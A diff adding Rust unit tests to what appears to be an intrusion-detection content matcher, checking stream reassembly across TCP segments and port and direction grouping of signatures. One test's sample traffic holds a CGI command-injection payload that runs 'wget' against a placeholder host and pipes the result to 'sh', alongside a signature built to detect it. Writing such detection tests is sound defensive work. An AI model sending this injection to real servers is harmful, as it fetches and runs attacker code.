@@ -178,3 +178,107 @@ fn header_ports_restrict_in_rule_direction() {
     assert_eq!(run((40000, 8080)), ["p:2"]);
     assert_eq!(run((8080, 40000)), Vec::<String>::new());
 }
+
+/// Fires of one flow direction fed `chunks` as a TCP stream.
+fn stream_fires(
+    m: &ContentMatcher,
+    dir: SigDirection,
+    ports: (u16, u16),
+    chunks: &[&[u8]],
+) -> Vec<String> {
+    let (mut flow, mut fired) = (FlowPayload::default(), Vec::new());
+    for c in chunks {
+        flow.push_stream(dir, c, 16 * 1024);
+        flow.scan_stream(m, dir, 16 * 1024, ports, &mut fired);
+    }
+    fired
+        .iter()
+        .map(|&i| m.signature(i).id.to_string())
+        .collect()
+}
+
+#[test]
+fn a_long_anchor_split_at_any_byte_across_segments_is_found() {
+    // Longer than the reach of a gram, with a relative pattern after it.
+    let m = matcher(json!([
+        {"id":"s:1","proto":"tcp","direction":"to_server","patterns":[
+            {"literal":"|00 01|GET /cgi-bin/very/long/exploit/path.cgi?cmd=","field":"payload"},
+            {"literal":"wget","field":"payload","distance":0,"within":8}]}
+    ]));
+    let mut stream = b"PREFIX-BYTES ".to_vec();
+    stream.extend_from_slice(b"|00 01|GET /cgi-bin/very/long/exploit/path.cgi?cmd=");
+    stream.extend_from_slice(b"x;wget http://x/ |sh");
+    for a in 1..stream.len() {
+        for b in [a + 1, a + 7, stream.len()] {
+            let b = b.min(stream.len());
+            let chunks: Vec<&[u8]> = [&stream[..a], &stream[a..b], &stream[b..]]
+                .into_iter()
+                .filter(|c| !c.is_empty())
+                .collect();
+            assert_eq!(
+                stream_fires(&m, SigDirection::ToServer, (40000, 80), &chunks),
+                ["s:1"],
+                "split at {a} and {b}"
+            );
+        }
+    }
+}
+
+#[test]
+fn payload_groups_by_transport_direction_and_ports() {
+    let m = matcher(json!([
+        {"id":"g:smb","proto":"tcp","direction":"to_server","ports":{"dst":[[445,445]]},
+         "patterns":[{"literal":"\u{ff}SMB","field":"payload"}]},
+        {"id":"g:mysql","proto":"tcp","direction":"to_server","ports":{"dst":[[3306,3306]]},
+         "patterns":[{"literal":"\u{11}","field":"payload","offset":3,"depth":1}]},
+        {"id":"g:wide","proto":"tcp","direction":"to_server","ports":{"dst":[[1024,65535]]},
+         "patterns":[{"literal":"wide-port","field":"payload"}]},
+        {"id":"g:client","proto":"tcp","direction":"to_client","patterns":[{"literal":"server says","field":"payload"}]},
+        {"id":"g:both","proto":"ip","patterns":[{"literal":"either way","field":"payload"}]},
+        {"id":"g:udp","proto":"udp","ports":{"src":[[53,53]]},"patterns":[{"literal":"dns-ish","field":"payload"}]}
+    ]));
+    let (ts, tc) = (SigDirection::ToServer, SigDirection::ToClient);
+    assert!(m.reads(Field::Payload));
+    let smb: &[&[u8]] = &[b"\x00\x00\x00\x2f\xffSMBr"];
+    assert_eq!(stream_fires(&m, ts, (40000, 445), smb), ["g:smb"]);
+    assert!(stream_fires(&m, ts, (40000, 139), smb).is_empty());
+    assert!(stream_fires(&m, tc, (40000, 445), smb).is_empty());
+    // A narrow signature is found whichever of the flow's ports names it;
+    // the rule's direction still decides.
+    assert!(stream_fires(&m, ts, (445, 40000), smb).is_empty());
+    let mysql: &[&[u8]] = &[b"\x20\x00\x00\x11rest"];
+    assert_eq!(stream_fires(&m, ts, (40000, 3306), mysql), ["g:mysql"]);
+    assert!(stream_fires(&m, ts, (40000, 3307), mysql).is_empty());
+    assert_eq!(
+        stream_fires(&m, ts, (40000, 8080), &[b"a wide-port b"]),
+        ["g:wide"]
+    );
+    assert!(stream_fires(&m, ts, (40000, 80), &[b"a wide-port b"]).is_empty());
+    assert_eq!(
+        stream_fires(&m, tc, (40000, 80), &[b"server says hi"]),
+        ["g:client"]
+    );
+    assert!(stream_fires(&m, ts, (40000, 80), &[b"server says hi"]).is_empty());
+    for dir in [ts, tc] {
+        assert_eq!(
+            stream_fires(&m, dir, (40000, 80), &[b"it goes either way"]),
+            ["g:both"]
+        );
+    }
+    assert!(
+        stream_fires(&m, ts, (53, 40000), &[b"dns-ish"]).is_empty(),
+        "udp only"
+    );
+    let mut fired = Vec::new();
+    let mut flow = FlowPayload::default();
+    flow.scan_datagram(&m, tc, b"dns-ish either way", 1024, (53, 40000), &mut fired);
+    let mut ids: Vec<String> = fired
+        .iter()
+        .map(|&i| m.signature(i).id.to_string())
+        .collect();
+    ids.sort();
+    assert_eq!(ids, ["g:both", "g:udp"]);
+    let no_payload =
+        matcher(json!([{"id":"n:1","patterns":[{"literal":"GET","field":"http.method"}]}]));
+    assert!(!no_payload.reads(Field::Payload));
+}
